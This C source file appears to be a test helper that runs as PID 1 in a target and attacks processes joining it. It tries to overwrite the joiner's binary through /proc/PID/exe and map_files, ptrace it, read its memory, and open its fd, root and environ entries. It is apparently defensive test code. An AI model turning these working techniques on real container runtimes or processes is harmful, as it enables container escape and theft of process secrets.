/* SPDX-License-Identifier: ISC */
/*
 * hostile - PID 1 of a target that attacks whoever joins it, until it is
 * killed.  Each success is a line on standard output.
 *
 *	hostile exe FILE	write to FILE, a copy of the joiner's program,
 *				through /proc/PID/exe or /proc/PID/map_files
 *	hostile ptrace NAME	trace processes called NAME, read their memory
 *	hostile files NAME	open their descriptors, directories and root
 * The command of the joiners is /bin/true.
 *
 * Only FILE is ever written to, so the control run does no harm.
 */
#include "config.h"

#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *wanted;
static struct stat prey, command;

/* Once for each process. */
static void
succeed(const char *pid, const char *how)
{
	static char last[16];

	if (strcmp(pid, last) == 0)
		return;
	snprintf(last, sizeof(last), "%.15s", pid);
	printf("%s\n", how);
}

/* FD shows FILE: keep trying to write to it; it is busy while it runs. */
static void
overwrite(int fd, const char *how)
{
	char path[64];
	int out = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; out == -1 && i < 20000; i++) {
		out = open(path, O_WRONLY | O_CLOEXEC);
		if (out == -1 && errno != ETXTBSY)
			break;
		if (out == -1)
			usleep(50);
	}
	if (out != -1 && pwrite(out, "#OVERWRITTEN", 12, 0) == 12)
		printf("overwritten through %s\n", how);
	if (out != -1)
		close(out);
}

static bool
is_prey(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 && st.st_dev == prey.st_dev &&
	    st.st_ino == prey.st_ino;
}

static void
try_link(int proc, const char *path, const char *how)
{
	int fd = openat(proc, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd == -1)
		return;
	if (is_prey(fd))
		overwrite(fd, how);
	close(fd);
}

static void
attack_exe(int proc, const char *pid)
{
	char path[320];
	struct dirent *e;
	DIR *d;
	int fd;

	snprintf(path, sizeof(path), "%s/exe", pid);
	try_link(proc, path, "exe");
	snprintf(path, sizeof(path), "%s/map_files", pid);
	fd = openat(proc, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd == -1 || (d = fdopendir(fd)) == NULL)
		return;
	while ((e = readdir(d)) != NULL)
		if (*e->d_name != '.')
			try_link(fd, e->d_name, "map_files");
	closedir(d);
}

/*
 * Is it still the joiner, whose program we can see and which has not become
 * the command?  Its name alone does not tell: execve(2) changes it last.
 */
static bool
is_joiner(int proc, const char *pid)
{
	char path[320], name[32];
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "%s/comm", pid);
	if ((fd = openat(proc, path, O_RDONLY | O_CLOEXEC)) == -1)
		return false;
	n = read(fd, name, sizeof(name) - 1);
	close(fd);
	if (n <= 0)
		return false;
	name[n - 1] = '\0';
	snprintf(path, sizeof(path), "%s/exe", pid);
	return strcmp(name, wanted) == 0 && fstatat(proc, path, &st, 0) == 0 &&
	    (st.st_dev != command.st_dev || st.st_ino != command.st_ino);
}

static void
attack_ptrace(int proc, const char *pid)
{
	pid_t p = (pid_t)atoi(pid);
	char byte;
	struct iovec to = { &byte, 1 }, from = { (void *)0x400000, 1 };

	if (!is_joiner(proc, pid))
		return;
	if (process_vm_readv(p, &to, 1, &from, 1, 0) == 1 &&
	    is_joiner(proc, pid))
		succeed(pid, "memory read");
	/* Not PTRACE_ATTACH, whose SIGSTOP may come after we have let go. */
	if (ptrace(PTRACE_SEIZE, p, NULL, NULL) == -1)
		return;
	if (ptrace(PTRACE_INTERRUPT, p, NULL, NULL) == 0 &&
	    waitpid(p, NULL, __WALL) == p && is_joiner(proc, pid))
		succeed(pid, "traced");
	ptrace(PTRACE_DETACH, p, NULL, NULL);
}

static void
attack_files(int proc, const char *pid)
{
	static const char *const what[] = { "root", "cwd", "fd", "mem",
		"environ" };
	char path[320];
	int fd;

	if (!is_joiner(proc, pid))
		return;
	for (size_t i = 0; i < sizeof(what) / sizeof(*what); i++) {
		snprintf(path, sizeof(path), "%s/%s", pid, what[i]);
		fd = openat(proc, path, O_RDONLY | O_CLOEXEC);
		if (fd == -1)
			continue;
		if (is_joiner(proc, pid))
			succeed(pid, what[i]);
		close(fd);
	}
}

static const struct attack {
	const char *name;
	void (*fn)(int proc, const char *pid);
} attacks[] = {
	{ "exe", attack_exe },
	{ "files", attack_files },
	{ "ptrace", attack_ptrace },
};

int
main(int argc, char **argv)
{
	const struct attack *attack = NULL;
	struct dirent *e;
	DIR *d;

	for (size_t i = 0; argc == 3 && i < sizeof(attacks) / sizeof(*attacks);
	     i++)
		if (strcmp(argv[1], attacks[i].name) == 0)
			attack = &attacks[i];
	if (attack == NULL || (d = opendir("/proc")) == NULL)
		return 2;
	wanted = argv[2];
	(void)stat(wanted, &prey);
	(void)stat("/bin/true", &command);
	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGCHLD, SIG_IGN);
	printf("ready\n");
	for (;;) {
		rewinddir(d);
		while ((e = readdir(d)) != NULL)
			if (*e->d_name >= '1' && *e->d_name <= '9' &&
			    atoi(e->d_name) != getpid())
				attack->fn(dirfd(d), e->d_name);
	}
}
